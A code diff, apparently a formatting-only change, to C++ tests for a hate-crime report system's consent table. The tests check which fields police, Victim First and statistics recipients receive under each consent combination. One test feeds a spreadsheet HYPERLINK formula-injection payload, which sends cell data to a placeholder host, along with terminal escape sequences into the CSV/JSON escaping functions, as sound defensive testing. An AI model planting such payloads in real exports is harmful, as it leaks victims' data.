@@ -1,12 +1,13 @@
 // The consent table (hrc/recipients.h): every schema field has a rule for every recipient; each
 // recipient's view of a report holds exactly what the table and the person's consents allow, for
 // every combination of the four consents; CSV and JSON output stays inert.
-#include <catch2/catch.hpp>
-
 #include <set>
+
+#include <catch2/catch.hpp>
 
 #include "hrc/recipients.h"
 #include "hrc/report.h"
+
 #include "recipient_check.h"
 #include "test_support.h"
 
@@ -15,7 +16,8 @@ using hrc::Recipient;
 namespace {
 
 nlohmann::json example_json() {
-    return nlohmann::json::parse(hrc_test::read_file(std::string(HRC_SOURCE_DIR) + "/docs/examples/report.json"));
+    return nlohmann::json::parse(
+        hrc_test::read_file(std::string(HRC_SOURCE_DIR) + "/docs/examples/report.json"));
 }
 
 hrc::Report example_report() {
@@ -27,7 +29,8 @@ hrc::Report example_report() {
 // One consent slot: absent, given or refused.
 std::optional<hrc::Consent> consent(int state, const char* wording) {
     if (state == 0) return std::nullopt;
-    return hrc::Consent{state == 1 ? hrc::ConsentDecision::given : hrc::ConsentDecision::refused, wording};
+    return hrc::Consent{state == 1 ? hrc::ConsentDecision::given : hrc::ConsentDecision::refused,
+                        wording};
 }
 
 } // namespace
@@ -40,18 +43,21 @@ TEST_CASE("recipients: the table names every field of the schema exactly once", 
     std::set<std::string> in_table;
     for (const auto& f : hrc::recipient_fields()) {
         INFO(f.pointer);
-        CHECK(in_table.insert(std::string(f.pointer)).second);   // no field twice
-        CHECK(leaves.count(std::string(f.pointer)) == 1);        // no stale row
+        CHECK(in_table.insert(std::string(f.pointer)).second); // no field twice
+        CHECK(leaves.count(std::string(f.pointer)) == 1);      // no stale row
     }
     for (const auto& [pointer, value] : leaves) {
         INFO(pointer);
-        CHECK(in_table.count(pointer) == 1);                     // no field without a rule
+        CHECK(in_table.count(pointer) == 1); // no field without a rule
     }
 }
 
-TEST_CASE("recipients: what statistics and Victim First get never includes free text about the incident", "[recipients]") {
-    for (const char* free_text : {"/description", "/other_difference", "/what_happened_other", "/where/address", "/where/place_other",
-                                  "/offenders/description", "/harm/injury_details", "/harm/witness_details"}) {
+TEST_CASE(
+    "recipients: what statistics and Victim First get never includes free text about the incident",
+    "[recipients]") {
+    for (const char* free_text : {"/description", "/other_difference", "/what_happened_other",
+                                  "/where/address", "/where/place_other", "/offenders/description",
+                                  "/harm/injury_details", "/harm/witness_details"}) {
         INFO(free_text);
         for (const auto& f : hrc::recipient_fields())
             if (f.pointer == free_text) {
@@ -63,11 +69,14 @@ TEST_CASE("recipients: what statistics and Victim First get never includes free 
         if (std::string_view(f.pointer).substr(0, 7) == "/about/") {
             INFO(f.pointer);
             CHECK(f.statistics == hrc::FieldRule::omitted);
-            if (f.pointer != "/about/anonymous" && f.pointer != "/about/age_band") CHECK(f.police == hrc::FieldRule::if_police_contact);
+            if (f.pointer != "/about/anonymous" && f.pointer != "/about/age_band")
+                CHECK(f.police == hrc::FieldRule::if_police_contact);
         }
 }
 
-TEST_CASE("recipients: every combination of the four consents gives each recipient exactly what the table says", "[recipients]") {
+TEST_CASE("recipients: every combination of the four consents gives each recipient exactly what "
+          "the table says",
+          "[recipients]") {
     const hrc::Report base = example_report();
     int combinations = 0;
     for (int police = 0; police < 3; ++police)
@@ -82,15 +91,19 @@ TEST_CASE("recipients: every combination of the four consents gives each recipie
                     const nlohmann::json full = hrc::to_json(r);
                     for (Recipient who : hrc::all_recipients()) {
                         const auto view = hrc::recipient_view(who, r, 1743098700);
-                        INFO(hrc::to_string(who) << " consents " << police << contact << support << stats);
-                        CHECK(hrc_test::differences_from_table(who, full, view ? &*view : nullptr).empty());
+                        INFO(hrc::to_string(who)
+                             << " consents " << police << contact << support << stats);
+                        CHECK(hrc_test::differences_from_table(who, full, view ? &*view : nullptr)
+                                  .empty());
                     }
                     ++combinations;
                 }
     CHECK(combinations == 81);
 }
 
-TEST_CASE("recipients: police without contact consent get no contact details, statistics get months and a sector", "[recipients]") {
+TEST_CASE("recipients: police without contact consent get no contact details, statistics get "
+          "months and a sector",
+          "[recipients]") {
     hrc::Report r = example_report();
     r.consents.police_may_contact = hrc::Consent{hrc::ConsentDecision::refused, "police-contact/1"};
     const auto police = hrc::recipient_view(Recipient::police, r, 1743098700);
@@ -116,7 +129,9 @@ TEST_CASE("recipients: police without contact consent get no contact details, st
     CHECK(hrc::recipient_view(Recipient::team, r, 1743098700));
 }
 
-TEST_CASE("recipients: police CSV columns come from the view, with ONS codes, strand flags and a normalised postcode", "[recipients]") {
+TEST_CASE("recipients: police CSV columns come from the view, with ONS codes, strand flags and a "
+          "normalised postcode",
+          "[recipients]") {
     hrc::Report r = example_report();
     r.where.postcode = "le45at";
     const auto view = hrc::recipient_view(Recipient::police, r, 1743098700);
@@ -125,7 +140,8 @@ TEST_CASE("recipients: police CSV columns come from the view, with ONS codes, st
     const auto cells = hrc::recipient_csv_cells(Recipient::police, *view);
     REQUIRE(cells.size() == columns.size());
     std::map<std::string, std::string> row;
-    for (std::size_t i = 0; i < columns.size(); ++i) row[columns[i]] = cells[i];
+    for (std::size_t i = 0; i < columns.size(); ++i)
+        row[columns[i]] = cells[i];
     CHECK(row["district_name"] == "Leicester");
     CHECK(row["district_ons_code"] == "E06000016");
     CHECK(row["postcode"] == "LE4 5AT");
@@ -144,9 +160,11 @@ TEST_CASE("recipients: police CSV columns come from the view, with ONS codes, st
     r.where.postcode = "+1";
     const auto no_contact = hrc::recipient_view(Recipient::police, r, 1743098700);
     const auto cells2 = hrc::recipient_csv_cells(Recipient::police, *no_contact);
-    for (std::size_t i = 0; i < columns.size(); ++i) row[columns[i]] = cells2[i];
+    for (std::size_t i = 0; i < columns.size(); ++i)
+        row[columns[i]] = cells2[i];
     CHECK(row["contact_allowed"] == "no");
-    for (const char* c : {"name", "phone", "email", "contact_address", "safe_contact_times", "interpreter_language", "access_needs"}) {
+    for (const char* c : {"name", "phone", "email", "contact_address", "safe_contact_times",
+                          "interpreter_language", "access_needs"}) {
         INFO(c);
         CHECK(row[c].empty());
     }
@@ -155,24 +173,31 @@ TEST_CASE("recipients: police CSV columns come from the view, with ONS codes, st
     CHECK(hrc::csv_cell(row["postcode_as_given"]) == "\"'+1\"");
 }
 
-TEST_CASE("recipients: CSV cells never run as formulas and carry no control characters", "[recipients]") {
-    CHECK(hrc::csv_cell("=HYPERLINK(\"http://x/?\"&A1,\"Click\")") == "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\"");
+TEST_CASE("recipients: CSV cells never run as formulas and carry no control characters",
+          "[recipients]") {
+    CHECK(hrc::csv_cell("=HYPERLINK(\"http://x/?\"&A1,\"Click\")") ==
+          "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\"");
     CHECK(hrc::csv_cell("+1") == "\"'+1\"");
     CHECK(hrc::csv_cell("-2+3") == "\"'-2+3\"");
     CHECK(hrc::csv_cell("@SUM(A1)") == "\"'@SUM(A1)\"");
-    CHECK(hrc::csv_cell("\t=1") == "\"\xEF\xBF\xBD=1\"");   // a leading tab becomes U+FFFD, so nothing leads with '='
+    CHECK(hrc::csv_cell("\t=1") ==
+          "\"\xEF\xBF\xBD=1\""); // a leading tab becomes U+FFFD, so nothing leads with '='
     CHECK(hrc::csv_cell("\r=1") == "\"\n=1\"");
     CHECK(hrc::csv_cell("plain, text") == "\"plain, text\"");
     CHECK(hrc::csv_cell("red \x1b[31mtext") == "\"red \xEF\xBF\xBD[31mtext\"");
-    CHECK(hrc::csv_cell("c1 \xC2\x9B" "31m") == "\"c1 \xEF\xBF\xBD" "31m\"");
+    CHECK(hrc::csv_cell("c1 \xC2\x9B"
+                        "31m") == "\"c1 \xEF\xBF\xBD"
+                                  "31m\"");
     CHECK(hrc::csv_cell("bad \xFF byte") == "\"bad \xEF\xBF\xBD byte\"");
     CHECK(hrc::csv_cell("line one\r\nline two") == "\"line one\nline two\"");
     CHECK(hrc::csv_cell("ગુજરાતી اردو") == "\"ગુજરાતી اردو\"");
     CHECK(hrc::csv_line({"a", "=b"}) == "\"a\",\"'=b\"\r\n");
 }
 
-TEST_CASE("recipients: JSON text escapes C1 controls and still holds the same value", "[recipients]") {
-    const nlohmann::json j = {{"description", "csi \xC2\x9B" "2J and \x1b[0m and ગુજરાતી"}};
+TEST_CASE("recipients: JSON text escapes C1 controls and still holds the same value",
+          "[recipients]") {
+    const nlohmann::json j = {{"description", "csi \xC2\x9B"
+                                              "2J and \x1b[0m and ગુજરાતી"}};
     const std::string text = hrc::inert_json_text(j);
     CHECK(text.find("\xC2\x9B") == std::string::npos);
     CHECK(text.find('\x1b') == std::string::npos);
@@ -192,15 +217,20 @@ TEST_CASE("recipients: districts carry their ONS codes, postcode sectors", "[rec
 }
 
 TEST_CASE("recipients: docs/recipients.md shows the table in code, row by row", "[recipients]") {
-    const std::string doc = hrc_test::read_file(std::string(HRC_SOURCE_DIR) + "/docs/recipients.md");
+    const std::string doc =
+        hrc_test::read_file(std::string(HRC_SOURCE_DIR) + "/docs/recipients.md");
     for (const auto& f : hrc::recipient_fields()) {
-        const std::string row = "| `" + std::string(f.pointer) + "` | " + std::string(hrc::to_string(f.police)) + " | " +
-                                std::string(hrc::to_string(f.victim_first)) + " | " + std::string(hrc::to_string(f.statistics)) + " |";
+        const std::string row = "| `" + std::string(f.pointer) + "` | " +
+                                std::string(hrc::to_string(f.police)) + " | " +
+                                std::string(hrc::to_string(f.victim_first)) + " | " +
+                                std::string(hrc::to_string(f.statistics)) + " |";
         INFO(row);
         CHECK(doc.find(row) != std::string::npos);
     }
     // And no row in the document that the code does not have.
     std::size_t rows = 0;
-    for (std::size_t at = doc.find("\n| `/"); at != std::string::npos; at = doc.find("\n| `/", at + 1)) ++rows;
+    for (std::size_t at = doc.find("\n| `/"); at != std::string::npos;
+         at = doc.find("\n| `/", at + 1))
+        ++rows;
     CHECK(rows == hrc::recipient_fields().size());
 }
